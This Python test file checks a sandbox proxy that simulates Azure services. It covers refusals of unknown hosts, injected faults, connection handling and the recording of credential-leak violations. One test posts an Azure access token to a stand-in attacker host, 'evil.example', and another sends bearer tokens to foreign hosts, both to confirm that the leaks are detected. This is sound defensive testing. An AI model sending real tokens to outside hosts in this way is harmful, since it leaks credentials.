"""The wire itself: refusals, faults, violations, connections."""

from __future__ import annotations

import socket
import threading
from typing import Any, ClassVar

import pytest
import requests
from sandbox_client import ACR_RESOURCE, REGISTRY, SERVER, WORKSPACE, Client, Start

from sandbox import Sandbox
from sandbox.proxy import Proxy, _Stream
from sandbox.records import Recorder, Refusal
from sandbox.wire import Literal, Request, asked_range, json_answer


def test_unknown_hosts_are_refused_loudly(start: Start) -> None:
    """A host that is not simulated gets an answer that names it, and the refusal is recorded."""
    client = start()
    answer = client.get("https://somewhere.example/path?x=1")
    assert (answer.status_code, answer.json()["error"]["host"]) == (501, "somewhere.example")
    assert [(it.host, it.path) for it in client.azure.refused] == [("somewhere.example", "/path?x=1")]
    assert client.azure.hosts == ["somewhere.example"]


def test_unknown_paths_are_refused_loudly(start: Start) -> None:
    """A path or a method that is not simulated is refused by name, on every known host."""
    client = start()
    assert client.arm(f"{REGISTRY}/somethingElse").status_code == 501
    assert client.arm(REGISTRY, method="DELETE").status_code == 501
    assert client.call("POST", f"https://{SERVER}/v2/team/train/blobs/uploads/").status_code == 501
    assert client.call("GET", client.azure.slack_webhook_url).status_code == 501
    assert client.get("https://northeurope.api.azureml.ms/other").status_code == 501
    assert len(client.azure.refused) == 5


def test_plain_http_is_refused(start: Start) -> None:
    """A plain http address through the proxy is refused, even of a host that is simulated."""
    client = start()
    assert client.get("http://management.azure.com/subscriptions").status_code == 501
    assert client.azure.refused


def test_failures_of_the_sandbox_are_answered_and_recorded(start: Start) -> None:
    """A body that a service cannot read is a 500 that a test can see, never a hang."""
    client = start()
    path = REGISTRY.split("/resourceGroups")[0] + "/providers/Microsoft.ContainerRegistry/checkNameAvailability"
    assert client.arm(path, method="POST", data="{").status_code == 500
    assert "JSONDecodeError" in client.azure.refused[0].reason


def test_calls_are_recorded(start: Start) -> None:
    """Every call is recorded with its status and query, without its credentials."""
    client = start()
    client.arm(REGISTRY)
    call = client.azure.calls[-1]
    assert (call.method, call.host, call.status) == ("GET", "management.azure.com", 200)
    assert call.path == f"{REGISTRY}?api-version=2025-11-01"
    assert "authorization" not in call.headers


def test_identity_endpoint_checks_its_header(start: Start) -> None:
    """A token is given for the right header and a resource only."""
    client = start()
    url, none = client.azure.environment["IDENTITY_ENDPOINT"], {"http": ""}
    wrong = requests.get(url, params={"resource": "x"}, proxies=none, timeout=20)
    header = {"X-IDENTITY-HEADER": client.azure.environment["IDENTITY_HEADER"]}
    nothing = requests.get(url, headers=header, proxies=none, timeout=20)
    assert (wrong.status_code, nothing.status_code) == (401, 400)


@pytest.mark.parametrize(
    "host", ["somewhere.example", "stprosewareml.blob.core.windows.net", SERVER, "hooks.slack.com"]
)
def test_a_token_for_the_wrong_host_is_a_violation(start: Start, host: str) -> None:
    """A token for Azure in a header to any other host is recorded."""
    client = start()
    client.get(f"https://{host}/v2/", headers={"Authorization": f"Bearer {client.token()}"})
    [violation] = client.azure.violations
    assert violation.host == host


def test_tokens_are_found_in_bodies_too(start: Start) -> None:
    """A token in a form is fine for the exchange of a registry of this world, and nowhere else."""
    client = start()
    client.refresh_token()
    assert client.azure.violations == []
    client.call("POST", "https://evil.example/oauth2/exchange", data={"access_token": client.token(ACR_RESOURCE)})
    assert [it.host for it in client.azure.violations] == ["evil.example"]


def test_must_not_be_asked(start: Start) -> None:
    """A connection to a host that must not be asked is a violation, whatever is asked."""
    plane = {"login_server": "plainreg.azurecr.io", "must_not_be_asked": True}
    client = start(world={"responder": {"data_plane": [plane]}})
    client.get("https://plainreg.azurecr.io/v2/")
    assert [it.host for it in client.azure.violations] == ["plainreg.azurecr.io"]


def fault(**answer: Any) -> dict[str, Any]:
    """Make a fault of the calls of one registry."""
    return {"call": {"host": "management.azure.com", "path": ".*/registries/.*"}, **answer}


def test_fault_with_a_status_for_some_calls(start: Start) -> None:
    """A fault answers in the service's own shape, with a pause, and only as often as stated."""
    client = start(faults=[fault(status=429, retry_after=7, times=2)])
    first, second, third = (client.arm(REGISTRY) for _ in range(3))
    assert [it.status_code for it in (first, second, third)] == [429, 429, 200]
    assert (first.headers["Retry-After"], first.json()["error"]["code"]) == ("7", "TooManyRequests")


def test_fault_that_cuts(start: Start) -> None:
    """A cut connection gets no answer, and is recorded with status 0."""
    client = start(faults=[fault(cut=True)])
    with pytest.raises(requests.ConnectionError):
        client.arm(REGISTRY)
    assert client.azure.calls[-1].status == 0


def test_fault_that_delays(start: Start, monkeypatch: pytest.MonkeyPatch) -> None:
    """A delay alone is waited for, in milliseconds, and then the call is served."""
    waited: list[float] = []
    client = start(faults=[fault(latency_ms=250)])
    monkeypatch.setattr(client.azure._stopping, "wait", waited.append)
    assert client.arm(REGISTRY).status_code == 200
    assert waited == [0.25]


def test_fault_by_method_and_code(start: Start) -> None:
    """A fault may be for one method, and carry a code and words of its own."""
    call = {"host": r".*\.azureml\.ms", "path": "/history/.*", "method": "GET"}
    client = start(faults=[{"call": call, "status": 503, "code": "Busy", "message": "later"}])
    error = client.history("/details").json()["error"]
    assert (error["code"], error["message"]) == ("Busy", "later")
    url = f"https://northeurope.api.azureml.ms/history/v1.0{WORKSPACE}/rundata"
    posted = client.call(
        "POST", url, json={"runId": "brave_run_1"}, headers={"Authorization": f"Bearer {client.token()}"}
    )
    assert posted.status_code == 200


def test_fault_on_a_host_that_is_not_simulated(start: Start) -> None:
    """A fault needs no service behind it."""
    client = start(faults=[{"call": {"host": "api.example"}, "status": 502, "message": "bad"}])
    assert client.get("https://api.example/").json() == {"error": {"code": None, "message": "bad"}}


def test_connections_are_kept_alive(start: Start) -> None:
    """Calls of one session to one host share a connection."""
    client = start()
    for _ in range(3):
        client.arm(REGISTRY)
    assert client.azure.hosts == ["management.azure.com"]


def test_answers_many_at_once(start: Start) -> None:
    """Many threads at once each get their own answer, and every call is recorded."""
    client, found = start(), list[int]()

    def ask() -> None:
        found.append(Client(client.azure).arm(REGISTRY).status_code)

    threads = [threading.Thread(target=ask) for _ in range(16)]
    for it in threads:
        it.start()
    for it in threads:
        it.join()
    assert found == [200] * 16
    assert sum(it.path.startswith(REGISTRY) for it in client.azure.calls) == 16


def test_chunked_bodies(start: Start) -> None:
    """A body in chunks is read like any other."""
    client = start()
    assert client.call("POST", client.azure.teams_webhook_url, data=iter([b'{"a"', b": 1}"])).status_code == 202
    assert client.azure.messages[0].payload == {"a": 1}


@pytest.mark.parametrize("sent", [b"nonsense\r\n\r\n", b"", b"GET / HTTP/1.1\r\nContent-Length: x\r\n\r\n"])
def test_what_is_not_http_is_dropped(start: Start, sent: bytes) -> None:
    """A peer that does not speak HTTP is hung up on."""
    client = start()
    with socket.create_connection(("127.0.0.1", int(client.azure.url.rpartition(":")[2])), timeout=20) as peer:
        peer.sendall(sent)
        peer.shutdown(socket.SHUT_WR)
        assert peer.recv(100) == b""


def test_answer_leaves_in_one_piece() -> None:
    """Head and body of an answer are one write: two would cost a delayed acknowledgement."""

    class Peer:
        writes: ClassVar[list[bytes]] = []

        def sendall(self, data: bytes) -> None:
            self.writes.append(data)

        def makefile(self, mode: str) -> None:
            assert mode == "rb"

    stream = _Stream(Peer(), "host", "https")  # type: ignore[arg-type]
    stream.write(Request("GET", "host", "/"), json_answer(200, {"a": 1}))
    assert len(Peer.writes) == 1
    assert Peer.writes[0].endswith(b'\r\n\r\n{"a":1}')


def test_stop_closes_what_is_open() -> None:
    """Stopping closes idle connections, so that no client waits for a sandbox that is gone."""
    proxy = Proxy(lambda _request: json_answer(200, {}), lambda _host: None)
    proxy.start()
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=20) as peer:
        peer.sendall(b"GET / HTTP/1.1\r\n\r\n")
        assert peer.recv(1000).endswith(b"{}")
        proxy.stop()
        assert peer.recv(10) == b""


def test_files_are_removed(start: Start) -> None:
    """The certificate's file goes with the sandbox."""
    client = start()
    azure = Sandbox(client.azure.scenario).start()
    bundle = azure.environment["SSL_CERT_FILE"]
    azure.stop()
    with pytest.raises(FileNotFoundError):
        open(bundle, encoding="utf-8")  # noqa: PTH123, SIM115 - it must fail


def test_records_are_copies() -> None:
    """What a recorder hands out does not grow behind the reader's back."""
    recorder = Recorder()
    before = recorder.refused
    recorder.add(Refusal("GET", "a", "/", "b"))
    assert (before, len(recorder.refused)) == ([], 1)


@pytest.mark.parametrize(
    ("header", "span"),
    [
        (None, (0, 10)),
        ("bytes=2-3", (2, 4)),
        ("bytes=-", (0, 10)),
        ("lines=1-2", (0, 10)),
        ("bytes=9-2", None),
    ],
)
def test_reading_ranges(header: str | None, span: tuple[int, int] | None) -> None:
    """A range that cannot be read is ignored; one without a byte is none."""
    assert asked_range(header, 10) == span
    assert b"".join(Literal(b"abc").chunks(3, 3)) == b""
